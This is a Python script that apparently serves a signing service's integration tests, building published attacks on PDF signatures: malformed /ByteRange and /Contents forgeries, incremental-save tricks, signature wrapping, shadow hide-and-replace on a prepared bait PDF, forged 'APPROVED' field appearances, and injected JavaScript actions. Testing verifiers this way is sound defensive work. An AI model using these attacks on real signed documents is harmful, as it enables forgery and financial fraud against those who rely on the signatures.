#!/usr/bin/env python3
"""Builds the published attacks on PDF signatures from one of our own sealed PDFs, for
tests/integration/pdf_attacks.sh. Python standard library only; objects are read through
the qpdf command line (`qpdf --show-object`), and every attack is written by hand as the
attacker would: new objects, a cross-reference section and a trailer with /Prev appended
to the sealed bytes (ISO 32000-1 7.5.6), or bytes changed where no signature covers them
(the /Contents gap). Nothing here goes through sealsvc's own code.

  pdf_attack.py list                       -> the attack names, one a line
  pdf_attack.py ATTACK IN.pdf OUT.pdf      -> OUT.pdf: IN.pdf with the attack applied
  pdf_attack.py bait OUT.pdf               -> an unsigned one-page PDF prepared for the
        shadow attacks (what an attacker submits for sealing): page text "Amount: 100 EUR",
        a text field "Amount" whose widget lies over it and a field "Name" over no text,
        an empty signature field "Approver" with no appearance,
        optional content "Hidden" that is off, a form XObject that no page uses, and an
        alternate page tree that the catalog does not name

The attacks (classes of Mladenov et al. 2019, "1 Trillion Dollar Refund": USF, ISA, SWA;
Mainka et al. 2021, "Shadow Attacks"; Rohlmann et al. 2021, "Breaking the Specification:
PDF Certification": EAA, SSA):
"""
import re
import subprocess
import sys
import zlib

from pdftool import write_pdf

ATTACKS = {}


def attack(name, doc):
    """Registers an attack; `doc` says which sealed document it needs (for the list)."""
    def register(fn):
        ATTACKS[name] = (fn, doc, fn.__doc__.strip())
        return fn
    return register


class Pdf:
    """The sealed file as bytes, its latest trailer, and objects as qpdf reads them."""

    def __init__(self, path):
        self.path = path
        self.data = open(path, 'rb').read()
        self.startxref = int(re.findall(rb'startxref\s+(\d+)', self.data)[-1])
        self.trailer = re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', self.data, re.S)[-1]
        self.size = int(re.search(rb'/Size\s+(\d+)', self.trailer).group(1))
        self.root = int(re.search(rb'/Root\s+(\d+) 0 R', self.trailer).group(1))
        self.added = {}

    def obj(self, num):
        """The object as the final revision defines it (a stream: its dictionary)."""
        out = subprocess.run(['qpdf', '--show-object=%d' % num, self.path],
                             capture_output=True, check=True).stdout
        # a stream is printed as "Object is stream.  Dictionary:" and its dictionary
        return out[out.index(b'<<'):].strip() if out.startswith(b'Object is stream') else out.strip()

    def stream(self, num):
        return subprocess.run(['qpdf', '--show-object=%d' % num, '--filtered-stream-data',
                               self.path], capture_output=True, check=True).stdout

    def key(self, num, key):
        """The object number a key of object `num` refers to, or None."""
        m = re.search(rb'%s\s+(\d+) 0 R' % re.escape(key), self.obj(num))
        return int(m.group(1)) if m else None

    def pages(self):
        out = subprocess.run(['qpdf', '--show-pages', self.path], capture_output=True,
                             check=True).stdout.decode()
        pages = []
        for line in out.splitlines():
            m = re.match(r'page \d+: (\d+) 0 R', line)
            if m:
                pages.append({'id': int(m.group(1)), 'contents': []})
            m = re.match(r'\s+(\d+) 0 R', line)
            if m and pages:
                pages[-1]['contents'].append(int(m.group(1)))
        return pages

    def signatures(self):
        """(sig dict number, [a b c d], offset of /ByteRange) of each signature, in file order."""
        out = []
        for m in re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', self.data):
            num = int(re.findall(rb'(?<![0-9])(\d+) 0 obj', self.data[:m.start()])[-1])
            out.append((num, [int(v) for v in m.groups()], m.start()))
        return out

    def new_id(self):
        n = self.size
        self.size += 1
        return n

    def update(self, objects, free=(), root=None, prev=True, xref=True, trailer=None,
               extra=b''):
        """An incremental update: `objects` {num: body}; `free` object numbers given free
        entries; the trailer names `root` (default: the current one) and /Prev unless
        `prev` is False, or is `trailer` verbatim."""
        base = len(self.data)
        out = b'' if self.data.endswith(b'\n') else b'\n'
        offsets = {}
        for num, body in sorted(objects.items()):
            offsets[num] = base + len(out)
            out += b'%d 0 obj\n' % num + body + b'\nendobj\n'
        out += extra
        if not xref:
            return out
        at = base + len(out)
        out += b'xref\n'
        entries = sorted([(n, b'%010d 00000 n\r\n' % o) for n, o in offsets.items()] +
                         [(n, b'0000000000 00001 f\r\n') for n in free])
        for num, entry in entries:
            out += b'%d 1\n' % num + entry
        if trailer is None:
            trailer = b'<< /Size %d /Root %d 0 R' % (max([self.size] + [n + 1 for n in objects]),
                                                       root or self.root)
            m = re.search(rb'/ID\s*\[[^\]]*\]', self.trailer)
            if m:
                trailer += b' ' + m.group(0)
            if prev:
                trailer += b' /Prev %d' % self.startxref
            trailer += b' >>'
        out += b'trailer\n' + trailer + b'\nstartxref\n%d\n%%%%EOF\n' % at
        return out


def stream_obj(data, extra=b''):
    return b'<< /Length %d%s >>\nstream\n' % (len(data), extra) + data + b'\nendstream'


def set_key(body, key, value):
    """`body` (a dictionary as qpdf prints it) with `key` set to `value` (None: removed)."""
    body = remove_key(body, key)
    if value is None:
        return body
    return body[:body.rindex(b'>>')] + key + b' ' + value + b' >>'


def remove_key(body, key):
    """Removes a top-level key and its value (a reference, name, number, string, array or
    dictionary) from a dictionary as qpdf prints it."""
    depth = 0
    i = 0
    while i < len(body):
        if body.startswith(b'<<', i):
            depth += 1
            i += 2
            continue
        if body.startswith(b'>>', i):
            depth -= 1
            i += 2
            continue
        if depth == 1 and body.startswith(key, i) and not body[i + len(key):i + len(key) + 1].isalnum():
            end = value_end(body, i + len(key))
            return body[:i] + body[end:]
        if body[i:i + 1] == b'(':
            i = string_end(body, i)
            continue
        i += 1
    return body


def string_end(body, i):
    depth = 0
    while i < len(body):
        c = body[i:i + 1]
        if c == b'\\':
            i += 2
            continue
        if c == b'(':
            depth += 1
        elif c == b')':
            depth -= 1
            if depth == 0:
                return i + 1
        i += 1
    return i


def value_end(body, i):
    while body[i:i + 1].isspace():
        i += 1
    m = re.compile(rb'\d+ \d+ R').match(body, i)
    if m:
        return m.end()
    if body[i:i + 1] == b'(':
        return string_end(body, i)
    if body.startswith(b'<<', i) or body[i:i + 1] == b'[':
        depth = 0
        while i < len(body):
            if body.startswith(b'<<', i) or body[i:i + 1] == b'[':
                depth += 1
                i += 2 if body.startswith(b'<<', i) else 1
                continue
            if body.startswith(b'>>', i) or body[i:i + 1] == b']':
                depth -= 1
                i += 2 if body.startswith(b'>>', i) else 1
                if depth == 0:
                    return i
                continue
            if body[i:i + 1] == b'(':
                i = string_end(body, i)
                continue
            i += 1
        return i
    m = re.compile(rb'/?[^\s/\[\]<>()]*|<[0-9a-fA-F\s]*>').match(body, i + (1 if body[i:i + 1] == b'/' else 0))
    return m.end()


def append_ref(body, key, num):
    """`body` with `num 0 R` added at the end of its array `key` (made when missing)."""
    m = re.search(rb'%s\s*\[([^\]]*)\]' % re.escape(key), body)
    if not m:
        return set_key(body, key, b'[ %d 0 R ]' % num)
    return body[:m.end(1)] + b' %d 0 R ' % num + body[m.end(1):]


def add_field(p, objects, field):
    """`objects` with the AcroForm (its own object or the catalog's direct one) listing `field`."""
    acro = p.key(p.root, b'/AcroForm') or p.root
    objects[acro] = append_ref(objects.get(acro) or p.obj(acro), b'/Fields', field)
    return objects


def first_sig(p):
    return p.signatures()[0]


def rewrite_sig(p, change):
    """The first signature's dictionary, rewritten in a later update by `change`."""
    num, br, _ = first_sig(p)
    return p.update({num: change(p.obj(num), br)})


def catalog_copy(p, **keys):
    """A new catalog object: the signed catalog with `keys` set (None: removed), and the
    trailer's /Root pointing at it."""
    body = p.obj(p.root)
    for k, v in keys.items():
        body = set_key(body, b'/' + k.encode(), v)
    new = p.new_id()
    return p.update({new: body}, root=new)


def in_gap(p, hex_digits):
    """The first signature's /Contents gap (never hashed) overwritten in place."""
    _, (_, lt, gt_end, _), _ = first_sig(p)
    width = gt_end - lt - 2
    fill = hex_digits + b'0' * (width - len(hex_digits))
    return p.data[:lt + 1] + fill + p.data[gt_end - 1:]


# ---- universal signature forgery: the signature dictionary itself is malformed ----

@attack('usf-byterange-three', 'sealed')
def usf_three(p):
    """USF: /ByteRange holds three numbers"""
    return rewrite_sig(p, lambda o, br: re.sub(rb'/ByteRange\s*\[[^\]]*\]',
                                               b'/ByteRange [ 0 %d %d ]' % (br[1], br[2]), o))


@attack('usf-byterange-negative', 'sealed')
def usf_negative(p):
    """USF: a negative /ByteRange length"""
    return rewrite_sig(p, lambda o, br: re.sub(rb'/ByteRange\s*\[[^\]]*\]',
                                               b'/ByteRange [ 0 %d %d -%d ]' % (br[1], br[2], br[3]), o))


@attack('usf-byterange-start', 'sealed')
def usf_start(p):
    """USF: /ByteRange does not start at 0"""
    return rewrite_sig(p, lambda o, br: re.sub(rb'/ByteRange\s*\[[^\]]*\]',
                                               b'/ByteRange [ 100 %d %d %d ]' % (br[1] - 100, br[2], br[3]), o))


@attack('usf-byterange-short', 'sealed')
def usf_short(p):
    """USF: /ByteRange stops short of the end of its revision"""
    return rewrite_sig(p, lambda o, br: re.sub(rb'/ByteRange\s*\[[^\]]*\]',
                                               b'/ByteRange [ 0 %d %d %d ]' % (br[1], br[2], br[3] - 300), o))


@attack('usf-byterange-gap', 'sealed')
def usf_gap(p):
    """USF: the /ByteRange gap is not exactly the /Contents string"""
    return rewrite_sig(p, lambda o, br: re.sub(rb'/ByteRange\s*\[[^\]]*\]',
                                               b'/ByteRange [ 0 %d %d %d ]' % (br[1] + 2, br[2], br[3]), o))


@attack('usf-byterange-two', 'sealed')
def usf_two(p):
    """USF: two /ByteRange keys, one covering nothing that matters"""
    return rewrite_sig(p, lambda o, br: o[:2] + b' /ByteRange [ 0 10 20 10 ]' + o[2:])


@attack('usf-contents-missing', 'sealed')
def usf_contents_missing(p):
    """USF: /Contents missing"""
    return rewrite_sig(p, lambda o, br: remove_key(o, b'/Contents'))


@attack('usf-contents-not-hex', 'sealed')
def usf_contents_literal(p):
    """USF: /Contents a literal string, not the hex string of the gap"""
    return rewrite_sig(p, lambda o, br: set_key(o, b'/Contents', b'(not a signature)'))


@attack('usf-contents-empty', 'sealed')
def usf_contents_empty(p):
    """USF: /Contents emptied in place (the gap is all zeros)"""
    return in_gap(p, b'')


@attack('usf-contents-not-cms', 'sealed')
def usf_contents_not_cms(p):
    """USF: /Contents overwritten in place with DER that is not a CMS"""
    return in_gap(p, b'300602012a020101')


@attack('usf-overlap', 'sealed')
def usf_overlap(p):
    """USF: a second signature field whose signature copies the first (same /ByteRange, same /Contents)"""
    num, br, _ = first_sig(p)
    sig = p.obj(num)
    page = p.pages()[0]['id']
    new_sig, field = p.new_id(), p.new_id()
    page_body = append_ref(p.obj(page), b'/Annots', field)
    return p.update(add_field(p, {new_sig: sig, page: page_body}, field) | {
                     field: b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Copy) /V %d 0 R '
                            b'/Rect [ 0 0 0 0 ] /P %d 0 R /F 132 >>' % (new_sig, page)})


# ---- signature wrapping ----

@attack('swa-moved-contents', 'sealed')
def swa(p):
    """SWA: the signature dictionary copied into a later update, so that the /Contents a reader takes is not the one in the gap"""
    return rewrite_sig(p, lambda o, br: o)


# ---- incremental saving attacks: bytes after the signed revision that are no proper update ----

def new_content(p, text=b'FORGED'):
    page = p.pages()[0]
    body = p.obj(page['id'])
    stream = p.new_id()
    font = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
    content = b'q 1 1 1 rg 0 0 595 842 re f Q BT /Fa 48 Tf 100 600 Td (%s) Tj ET' % text
    res = b'<< /Font << /Fa %s >> >>' % font
    body = set_key(set_key(body, b'/Contents', b'%d 0 R' % stream), b'/Resources', res)
    return {page['id']: body, stream: stream_obj(content)}


@attack('isa-no-xref', 'sealed')
def isa_no_xref(p):
    """ISA: a page's new objects appended without a cross-reference section or trailer"""
    return p.update(new_content(p), xref=False)


@attack('isa-startxref-only', 'sealed')
def isa_startxref_only(p):
    """ISA: new objects and a startxref that names the signed revision's cross-reference"""
    return p.update(new_content(p), xref=False) + b'startxref\n%d\n%%%%EOF\n' % p.startxref


@attack('isa-copied-trailer', 'sealed')
def isa_copied_trailer(p):
    """ISA: an update whose trailer is the signed revision's, copied (its /Prev skips the signed revision)"""
    return p.update(new_content(p), trailer=p.trailer)


@attack('isa-no-prev', 'sealed')
def isa_no_prev(p):
    """ISA: an update whose trailer has no /Prev"""
    return p.update(new_content(p), prev=False)


@attack('isa-unchained', 'sealed')
def isa_unchained(p):
    """ISA: a complete update that the next update's /Prev skips (a revision outside the chain)"""
    signed_xref = p.startxref
    p.data += p.update(new_content(p))
    p.startxref = signed_xref
    return p.data + p.update({p.root: p.obj(p.root)})


@attack('isa-unlisted-object', 'sealed')
def isa_unlisted_object(p):
    """ISA: an update whose body holds an object its cross-reference section leaves out"""
    page = p.pages()[0]['id']
    return p.update({p.root: p.obj(p.root)},
                    extra=b'%d 0 obj\n%s\nendobj\n' % (page, set_key(p.obj(page), b'/Rotate', b'180')))


@attack('trailing-garbage', 'sealed')
def trailing(p):
    """Bytes after the last revision that are no update (a PDF object, no cross-reference)"""
    return b'%% hidden\n99 0 obj\n<< /Hidden (text) >>\nendobj\n'


# ---- changes to what the signed revision shows ----

@attack('page-content', 'sealed')
def page_content(p):
    """A page's content stream replaced in place (same object number)"""
    content = p.pages()[0]['contents'][0]
    data = p.stream(content) + b'\nBT /F1 48 Tf 100 600 Td (FORGED) Tj ET'
    return p.update({content: stream_obj(data)})


@attack('page-contents-swapped', 'sealed')
def page_contents_swapped(p):
    """A page pointed at a new content stream and new resources"""
    return p.update(new_content(p))


@attack('resources', 'sealed')
def resources(p):
    """A page's resource dictionary changed (a font added)"""
    page = p.pages()[0]['id']
    res = p.key(page, b'/Resources')
    body = p.obj(res)
    body = body[:2] + b' /XObject << /Im9 << >> >>' + body[2:]
    return p.update({res: body})


@attack('font', 'sealed')
def font(p):
    """A font of a page replaced (another /BaseFont, no embedded program)"""
    page = p.pages()[0]['id']
    fonts = re.search(rb'/Font\s*<<(.*?)>>', p.obj(p.key(page, b'/Resources')), re.S).group(1)
    num = int(re.search(rb'(\d+) 0 R', fonts).group(1))
    return p.update({num: b'<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>'})


@attack('xobject', 'sealed')
def xobject(p):
    """An image XObject (the seal's picture) replaced by another"""
    num = int(re.findall(rb'(?<![0-9])(\d+) 0 obj\s*<<[^>]*?/Subtype\s*/Image', p.data, re.S)[0])
    body = p.obj(num)
    data = bytes(len(p.stream(num)))
    body = remove_key(remove_key(remove_key(body, b'/Filter'), b'/DecodeParms'), b'/Length')
    body = remove_key(body, b'/SMask')
    return p.update({num: body[:-2] + b'/Length %d >>\nstream\n' % len(data) + data + b'\nendstream'})


@attack('page-added', 'sealed')
def page_added(p):
    """A page added to the page tree"""
    pages = p.key(p.root, b'/Pages')
    tree = p.obj(pages)
    new = p.new_id()
    count = int(re.search(rb'/Count\s+(\d+)', tree).group(1))
    tree = re.sub(rb'/Kids\s*\[', b'/Kids [ %d 0 R ' % new, tree, count=1)
    tree = re.sub(rb'/Count\s+\d+', b'/Count %d' % (count + 1), tree, count=1)
    return p.update({pages: tree, new: b'<< /Type /Page /Parent %d 0 R /MediaBox [ 0 0 595 842 ] >>' % pages})


@attack('page-removed', 'sealed')
def page_removed(p):
    """The last page removed from the page tree"""
    pages = p.key(p.root, b'/Pages')
    tree = p.obj(pages)
    kids = re.search(rb'/Kids\s*\[([^\]]*)\]', tree).group(1)
    refs = re.findall(rb'\d+ 0 R', kids)
    tree = tree.replace(kids, b' ' + b' '.join(refs[:-1]) + b' ')
    tree = re.sub(rb'/Count\s+\d+', b'/Count %d' % (len(refs) - 1), tree, count=1)
    return p.update({pages: tree})


@attack('acroform-removed', 'sealed')
def acroform_removed(p):
    """The catalog's /AcroForm removed"""
    return p.update({p.root: set_key(p.obj(p.root), b'/AcroForm', None)})


@attack('acroform-swapped', 'sealed')
def acroform_swapped(p):
    """The catalog's /AcroForm replaced by a new AcroForm object"""
    new = p.new_id()
    body = set_key(p.obj(p.key(p.root, b'/AcroForm')), b'/NeedAppearances', b'true')
    return p.update({new: body, p.root: set_key(p.obj(p.root), b'/AcroForm', b'%d 0 R' % new)})


@attack('objects-freed', 'sealed')
def objects_freed(p):
    """An update that only frees an object (a page's content stream), nothing else"""
    return p.update({}, free=[p.pages()[0]['contents'][0]])


# ---- a new catalog: /Root pointed at an object the signed revision did not have ----

@attack('root-openaction', 'sealed')
def root_openaction(p):
    """A new catalog with an /OpenAction (JavaScript)"""
    return catalog_copy(p, OpenAction=b'<< /S /JavaScript /JS (app.alert\\(1\\)) >>')


@attack('root-aa', 'sealed')
def root_aa(p):
    """A new catalog with additional actions (/AA)"""
    return catalog_copy(p, AA=b'<< /WC << /S /JavaScript /JS (1) >> >>')


@attack('root-pages', 'sealed')
def root_pages(p):
    """A new catalog whose /Pages is a new page tree with the pages reordered"""
    pages = p.pages()
    new, cat = p.new_id(), p.new_id()
    kids = b' '.join(b'%d 0 R' % pg['id'] for pg in reversed(pages))
    tree = b'<< /Type /Pages /Kids [ %s ] /Count %d >>' % (kids, len(pages))
    catalog = set_key(p.obj(p.root), b'/Pages', b'%d 0 R' % new)
    return p.update({new: tree, cat: catalog}, root=cat)


@attack('root-acroform', 'sealed')
def root_acroform(p):
    """A new catalog without the /AcroForm"""
    return catalog_copy(p, AcroForm=None)


@attack('root-ocproperties', 'bait')
def root_oc(p):
    """Shadow hide: a new catalog whose optional content configuration turns the hidden layer on"""
    oc = p.obj(p.root)
    ocg = re.search(rb'/OCGs\s*\[\s*(\d+ 0 R)', oc).group(1)
    return catalog_copy(p, OCProperties=b'<< /OCGs [ %s ] /D << /ON [ %s ] /Order [ %s ] >> >>'
                        % (ocg, ocg, ocg))


# ---- shadow attacks on a document prepared before sealing (`bait`) ----

@attack('shadow-hide-oc', 'bait')
def shadow_hide_oc(p):
    """Shadow hide: the signed catalog's optional content turned on"""
    body = p.obj(p.root)
    body = re.sub(rb'/OFF\s*\[[^\]]*\]', b'/OFF [ ]', body)
    return p.update({p.root: body})


@attack('shadow-hide-xobject', 'bait')
def shadow_hide_xobject(p):
    """Shadow hide: an XObject unused when signed, drawn by a content stream added to the page"""
    page = p.pages()[0]
    body = p.obj(page['id'])
    xobj = int(re.search(rb'%unused-xobject (\d+)', p.data).group(1))
    stream = p.new_id()
    contents = b'[ %s %d 0 R ]' % (b' '.join(b'%d 0 R' % c for c in page['contents']), stream)
    body = set_key(body, b'/Contents', contents)
    res = set_key(p.obj(p.key(page['id'], b'/Resources')), b'/XObject', b'<< /Fx %d 0 R >>' % xobj)
    res_id = p.key(page['id'], b'/Resources')
    return p.update({page['id']: body, stream: stream_obj(b'q /Fx Do Q'), res_id: res})


def fill(p, name, value, white=False):
    """A field filled in as a reader would: /V and a new appearance stream for its widget."""
    field = int(re.search(rb'%%field-%s (\d+)' % name.encode(), p.data).group(1))
    body = p.obj(field)
    rect = [float(v) for v in re.search(rb'/Rect\s*\[([^\]]*)\]', body).group(1).split()]
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    ap = p.new_id()
    draw = (b'1 1 1 rg 0 0 %g %g re f ' % (w, h) if white else b'') + \
        b'BT 0 g /Helv 12 Tf 2 5 Td (%s) Tj ET' % value.encode()
    body = set_key(body, b'/V', b'(%s)' % value.encode())
    body = set_key(body, b'/AP', b'<< /N %d 0 R >>' % ap)
    return p.update({field: body, ap: stream_obj(draw, b' /Type /XObject /Subtype /Form /BBox [ 0 0 %g %g ] '
                                                 b'/Resources << /Font << /Helv << /Type /Font /Subtype /Type1 '
                                                 b'/BaseFont /Helvetica >> >> >>' % (w, h))})


@attack('shadow-replace', 'bait')
def shadow_replace(p):
    """Shadow replace: the field over the page text "Amount: 100 EUR" filled with an opaque "Amount: 900 EUR\""""
    return fill(p, 'Amount', 'Amount: 900 EUR', white=True)


@attack('fill-name', 'bait')
def fill_name(p):
    """Form filling (allowed): the field "Name", over no page text, filled in"""
    return fill(p, 'Name', 'Alice')


@attack('sig-field-drawn', 'bait')
def sig_field_drawn(p):
    """SSA: the empty signature field "Approver" given an appearance that draws, without a signature"""
    field = int(re.search(rb'%field-Approver (\d+)', p.data).group(1))
    ap = p.new_id()
    draw = b'1 1 1 rg 0 0 200 50 re f BT 0 g /Helv 18 Tf 5 20 Td (APPROVED) Tj ET'
    return p.update({field: set_key(p.obj(field), b'/AP', b'<< /N %d 0 R >>' % ap),
                     ap: stream_obj(draw, b' /Type /XObject /Subtype /Form /BBox [ 0 0 200 50 ] '
                                          b'/Resources << /Font << /Helv << /Type /Font /Subtype /Type1 '
                                          b'/BaseFont /Helvetica >> >> >>')})


@attack('hide-and-replace', 'bait')
def hide_and_replace(p):
    """Shadow hide-and-replace: the signed catalog's /Pages switched to the alternate page tree"""
    alt = int(re.search(rb'%alternate-pages (\d+)', p.data).group(1))
    return p.update({p.root: set_key(p.obj(p.root), b'/Pages', b'%d 0 R' % alt)})


# ---- after a certification ----

@attack('annotation', 'sealed')
def annotation(p):
    """An annotation added (EAA under DocMDP P=2; allowed and listed under P=3)"""
    page = p.pages()[0]['id']
    new = p.new_id()
    body = append_ref(p.obj(page), b'/Annots', new)
    return p.update({page: body, new: b'<< /Type /Annot /Subtype /FreeText /Rect [ 100 500 400 540 ] '
                                      b'/Contents (Paid in full) /DA (/Helv 14 Tf 0 g) /P %d 0 R >>' % page})


@attack('annotation-prepared-ap', 'bait')
def annotation_prepared_ap(p):
    """Shadow hide under P=3: an annotation added whose appearance is the XObject prepared, unused, before signing"""
    page = p.pages()[0]['id']
    xobj = int(re.search(rb'%unused-xobject (\d+)', p.data).group(1))
    new = p.new_id()
    return p.update({page: append_ref(p.obj(page), b'/Annots', new),
                     new: b'<< /Type /Annot /Subtype /Square /Rect [ 0 0 595 842 ] /F 4 /P %d 0 R '
                          b'/AP << /N %d 0 R >> >>' % (page, xobj)})


@attack('unsigned-sig-field', 'sealed')
def unsigned_sig_field(p):
    """SSA: a new unsigned signature field whose appearance draws over the page"""
    page = p.pages()[0]['id']
    field, ap = p.new_id(), p.new_id()
    body = append_ref(p.obj(page), b'/Annots', field)
    draw = b'1 1 1 rg 0 0 400 200 re f BT 0 g /Helv 24 Tf 10 100 Td (FORGED) Tj ET'
    return p.update(add_field(p, {page: body}, field) | {
                     field: b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [ 50 400 450 600 ] '
                            b'/F 4 /P %d 0 R /AP << /N %d 0 R >> >>' % (page, ap),
                     ap: stream_obj(draw, b' /Type /XObject /Subtype /Form /BBox [ 0 0 400 200 ] '
                                          b'/Resources << /Font << /Helv << /Type /Font /Subtype /Type1 '
                                          b'/BaseFont /Helvetica >> >> >>')})


# ---- the document an attacker submits for sealing ----

def bait(out):
    page_text = b'BT /F1 14 Tf 100 705 Td (Amount: 100 EUR) Tj ET\n' \
                b'/OC /oc1 BDC BT /F1 14 Tf 100 650 Td (Hidden text) Tj ET EMC'
    hidden = b'BT /F1 14 Tf 100 600 Td (Shadow text) Tj ET'
    alt_text = b'BT /F1 14 Tf 100 705 Td (Amount: 900 EUR) Tj ET'
    font = b'<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> ' \
           b'/Properties << /oc1 7 0 R >> >>'
    objs = [
        b'<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [ 5 0 R 6 0 R 13 0 R ] '
        b'/DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv << /Type /Font /Subtype /Type1 '
        b'/BaseFont /Helvetica >> >> >> >> /OCProperties << /OCGs [ 7 0 R ] /D << /OFF [ 7 0 R ] '
        b'/Order [ 7 0 R ] >> >> >>',
        b'<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Contents 4 0 R /Resources 8 0 R '
        b'/Annots [ 5 0 R 6 0 R 13 0 R ] >>',
        stream_obj(page_text),
        b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /Rect [ 95 700 300 722 ] /P 3 0 R '
        b'/F 4 /DA (/Helv 12 Tf 0 g) >>',
        b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [ 100 300 300 322 ] /P 3 0 R '
        b'/F 4 /DA (/Helv 12 Tf 0 g) >>',
        b'<< /Type /OCG /Name (Hidden) >>',
        font,
        stream_obj(hidden, b' /Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /Resources 8 0 R'),
        b'<< /Type /Pages /Kids [ 11 0 R ] /Count 1 >>',
        b'<< /Type /Page /Parent 10 0 R /MediaBox [ 0 0 595 842 ] /Contents 12 0 R /Resources 8 0 R >>',
        stream_obj(alt_text),
        b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approver) /Rect [ 300 50 500 100 ] /P 3 0 R '
        b'/F 4 >>',
    ]
    write_pdf(out, objs, b'%field-Amount 5\n%field-Name 6\n%unused-xobject 9\n'
                         b'%alternate-pages 10\n%field-Approver 13\n')


def main():
    if sys.argv[1] == 'list':
        for name, (_, doc, what) in ATTACKS.items():
            print('%s\t%s\t%s' % (name, doc, what))
    elif sys.argv[1] == 'bait':
        bait(sys.argv[2])
    else:
        fn = ATTACKS[sys.argv[1]][0]
        p = Pdf(sys.argv[2])
        result = fn(p)
        # an attack returns either the whole new file or the bytes it appends
        data = result if result.startswith(b'%PDF') else p.data + result
        open(sys.argv[3], 'wb').write(data)


if __name__ == '__main__':
    main()
